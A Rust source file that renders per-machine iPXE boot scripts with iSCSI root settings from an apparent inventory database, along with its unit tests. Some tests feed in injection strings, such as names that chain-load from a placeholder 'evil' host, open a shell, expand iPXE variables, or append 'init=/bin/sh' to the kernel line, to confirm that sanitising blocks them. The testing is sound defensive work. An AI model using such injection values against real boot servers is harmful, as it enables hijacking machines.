//! iPXE scripts, rendered per MAC from the inventory (`GET /boot/<mac>.ipxe`). A machine with a
//! boot volume loads the kernel and nhn's initrd over HTTP with the iSCSI root-path and
//! initiator name on the command line (neither is a secret; CHAP secrets never go there). A
//! machine the inventory does not know gets a script that says so and hands the boot back.

use crate::inventory::boot::{Boot, BootOwner};
use crate::inventory::{Result, Tx};
use crate::net::Mac;

/// What the inventory says about the machine (or VM) behind a MAC.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Target {
    pub name: String,
    /// RFC 4173 root-path and initiator, when a boot volume is assigned.
    pub iscsi: Option<(String, String)>,
    /// `<vlan>:<address>/<prefix>` on the storage network, tagged on the boot NIC's port,
    /// when the site gives the NIC a `storage_ip`.
    pub storage: Option<String>,
}

/// Boot settings from the configuration.
#[derive(Debug, Clone)]
pub struct Settings {
    /// e.g. `http://10.96.0.1:8080` (no trailing slash).
    pub base_url: String,
    pub kernel: String,
    pub initrd: String,
    pub cmdline: String,
    /// With CHAP on: the one-time URL of the machine's boot secrets, or why none was issued.
    pub secrets: Option<Result<String, String>>,
}

/// Parses the `<mac>` of `<mac>.ipxe` (dashes or colons).
pub fn mac_of_script(name: &str) -> Option<Mac> {
    name.strip_suffix(".ipxe")?.parse().ok()
}

/// Looks up the machine or VM that owns `mac`, with its boot volume.
pub fn lookup(tx: &Tx<'_>, mac: &Mac) -> Result<Option<Target>> {
    let Some(owner) = tx.boot_owner(&mac.to_string())? else {
        return Ok(None);
    };
    if owner.kind.as_deref() == Some("discovered") {
        return Ok(None);
    }
    let volume = tx.boot_volume(&owner)?;
    let BootOwner {
        name, initiator, ..
    } = owner;
    let name = name.unwrap_or_default();
    let iscsi = volume.and_then(|v| {
        let portal = v.address.parse().ok()?;
        let initiator = if initiator.is_empty() {
            crate::storage::default_initiator(&v.iqn_prefix, &name)
        } else {
            initiator
        };
        Some((
            crate::storage::root_path(portal, v.port, v.lun, &v.target),
            initiator,
        ))
    });
    let storage = tx
        .storage_address(&mac.to_string())?
        .and_then(|(vlan, ip, subnet)| {
            let net: crate::net::Ipv4Net = subnet?.parse().ok()?;
            Some(format!("{vlan}:{ip}/{}", net.prefix_len()))
        });
    Ok(Some(Target {
        name,
        iscsi,
        storage,
    }))
}

/// Characters that may appear in a kernel command-line value without quoting surprises.
fn cmdline_safe(s: &str) -> bool {
    !s.is_empty()
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || ".:-_/@=+,".contains(c))
}

/// `text` as an `echo` argument iPXE shows as it is: iPXE expands `${…}` and runs `&&`, `||`
/// and `#` on every script line, with no quoting, so anything outside a plain set becomes `?`.
fn shown(text: &str) -> String {
    text.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || " .:-_/@=+,()[]'".contains(c) {
                c
            } else {
                '?'
            }
        })
        .collect()
}

/// Renders the script for `mac`.
pub fn render(mac: &Mac, target: Option<&Target>, s: &Settings) -> String {
    let bootif = format!("01-{}", mac.to_string().replace(':', "-"));
    let Some(t) = target else {
        return format!(
            "#!ipxe\n\
             echo nhn: this machine ({mac}) is not in the inventory; it is listed as discovered.\n\
             echo nhn: describe it in the site file, run `nhn inventory import`, then reboot it.\n\
             sleep 10\n\
             exit 1\n"
        );
    };
    let Some((root, initiator)) = t
        .iscsi
        .as_ref()
        .filter(|(r, i)| cmdline_safe(r) && cmdline_safe(i))
    else {
        return format!(
            "#!ipxe\n\
             echo nhn: {} ({mac}) has no boot volume; assign one, then reboot it.\n\
             sleep 10\n\
             exit 1\n",
            shown(&t.name)
        );
    };
    let secrets = match &s.secrets {
        None => String::new(),
        Some(Ok(url)) if cmdline_safe(url) => format!(" nhn.secrets={url}"),
        Some(Ok(_)) => String::new(),
        Some(Err(why)) => {
            return format!(
                "#!ipxe\n\
                 echo nhn: {} ({mac}): {}\n\
                 sleep 10\n\
                 exit 1\n",
                shown(&t.name),
                shown(why)
            );
        }
    };
    let storage = match &t.storage {
        Some(v) if cmdline_safe(v) => format!(" nhn.storage={v}"),
        _ => String::new(),
    };
    let base = s.base_url.trim_end_matches('/');
    // `initrd=<name>` on the kernel line: UEFI kernels' EFI stub needs it to find the initrd.
    let initrd_name = s.initrd.rsplit('/').next().unwrap_or(&s.initrd);
    format!(
        "#!ipxe\n\
         echo nhn: booting {name} ({mac}) from {root}\n\
         kernel {base}/boot/{kernel} initrd={initrd_name} {cmdline} BOOTIF={bootif} nhn.mode=boot nhn.root={root} nhn.initiator={initiator}{storage}{secrets}\n\
         initrd {base}/boot/{initrd}\n\
         boot\n",
        name = shown(&t.name),
        kernel = s.kernel,
        initrd = s.initrd,
        cmdline = s.cmdline,
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_names_cannot_chain_or_expand_in_the_script() {
        let mac: Mac = "52:54:00:12:34:56".parse().unwrap();
        for name in [
            "x && chain http://evil/x",
            "x || shell",
            "${net0/ip} ${root-path}",
            "x # comment\nchain http://evil/",
            "quote\" `back` ; semi \\ back",
        ] {
            let t = Target {
                name: name.into(),
                ..server2()
            };
            for target in [
                Some(&t),
                Some(&Target {
                    iscsi: None,
                    ..t.clone()
                }),
            ] {
                let script = render(&mac, target, &settings());
                for line in script.lines().filter(|l| l.starts_with("echo ")) {
                    assert!(
                        !line.contains(['&', '|', '$', '#']),
                        "{name:?} breaks out: {line}"
                    );
                }
                for line in script.lines() {
                    let command = line.split(' ').next().unwrap_or_default();
                    assert!(
                        [
                            "#!ipxe", "echo", "kernel", "initrd", "boot", "sleep", "exit"
                        ]
                        .contains(&command),
                        "{name:?}: a line of its own: {line}"
                    );
                }
            }
        }
    }

    fn settings() -> Settings {
        Settings {
            base_url: "http://10.96.0.1:8080".into(),
            kernel: "vmlinuz".into(),
            initrd: "initrd.img".into(),
            cmdline: "console=ttyS0".into(),
            secrets: None,
        }
    }

    fn server2() -> Target {
        Target {
            name: "Server-2".into(),
            iscsi: Some((
                "iscsi:10.96.0.1::3260:1:iqn.2026-11.test:vol-2".into(),
                "iqn.2026-11.test:server-2".into(),
            )),
            storage: None,
        }
    }

    #[test]
    fn a_storage_address_on_a_tagged_vlan_goes_on_the_command_line() {
        let mac: Mac = "52:54:00:96:00:01".parse().unwrap();
        let mut t = server2();
        t.storage = Some("10:10.10.0.12/24".into());
        let s = render(&mac, Some(&t), &settings());
        assert!(
            s.contains("nhn.initiator=iqn.2026-11.test:server-2 nhn.storage=10:10.10.0.12/24\n"),
            "{s}"
        );
        t.storage = Some("10:10.10.0.12/24 init=/bin/sh".into());
        let s = render(&mac, Some(&t), &settings());
        assert!(
            !s.contains("nhn.storage") && !s.contains("init=/bin/sh"),
            "{s}"
        );
    }

    #[test]
    fn machine_with_a_boot_volume_loads_kernel_and_initrd_with_its_iscsi_root() {
        let mac: Mac = "52:54:00:96:00:01".parse().unwrap();
        let t = server2();
        let s = render(&mac, Some(&t), &settings());
        assert!(s.starts_with("#!ipxe\n"));
        assert!(s.contains(
            "kernel http://10.96.0.1:8080/boot/vmlinuz initrd=initrd.img console=ttyS0 BOOTIF=01-52-54-00-96-00-01 \
             nhn.mode=boot nhn.root=iscsi:10.96.0.1::3260:1:iqn.2026-11.test:vol-2 nhn.initiator=iqn.2026-11.test:server-2\n"
        ), "{s}");
        assert!(
            s.contains("initrd http://10.96.0.1:8080/boot/initrd.img\nboot\n"),
            "{s}"
        );
    }

    #[test]
    fn with_chap_the_command_line_carries_a_token_url_or_the_boot_stops() {
        let mac: Mac = "52:54:00:96:00:01".parse().unwrap();
        let t = server2();
        let mut s = settings();
        s.secrets = Some(Ok("http://10.96.0.1:8080/boot/secrets/abc123".into()));
        let script = render(&mac, Some(&t), &s);
        assert!(
            script.contains("nhn.initiator=iqn.2026-11.test:server-2 nhn.secrets=http://10.96.0.1:8080/boot/secrets/abc123\n"),
            "{script}"
        );
        s.secrets = Some(Err("10.96.0.66 is not the address".into()));
        let script = render(&mac, Some(&t), &s);
        assert!(
            script.contains("10.96.0.66 is not the address") && !script.contains("kernel"),
            "{script}"
        );
    }

    #[test]
    fn unknown_and_volumeless_machines_get_an_explanation_not_a_boot() {
        let mac: Mac = "52:54:00:96:00:99".parse().unwrap();
        let s = render(&mac, None, &settings());
        assert!(
            s.contains("not in the inventory") && !s.contains("kernel"),
            "{s}"
        );
        let t = Target {
            name: "Server-9".into(),
            iscsi: None,
            storage: None,
        };
        let s = render(&mac, Some(&t), &settings());
        assert!(
            s.contains("has no boot volume") && !s.contains("kernel"),
            "{s}"
        );
    }

    #[test]
    fn script_names_parse_with_dashes_or_colons() {
        assert_eq!(
            mac_of_script("52-54-00-96-00-01.ipxe"),
            "52:54:00:96:00:01".parse().ok()
        );
        assert_eq!(
            mac_of_script("52:54:00:96:00:01.ipxe"),
            "52:54:00:96:00:01".parse().ok()
        );
        assert_eq!(mac_of_script("undionly.kpxe"), None);
        assert_eq!(mac_of_script("zz.ipxe"), None);
    }
}
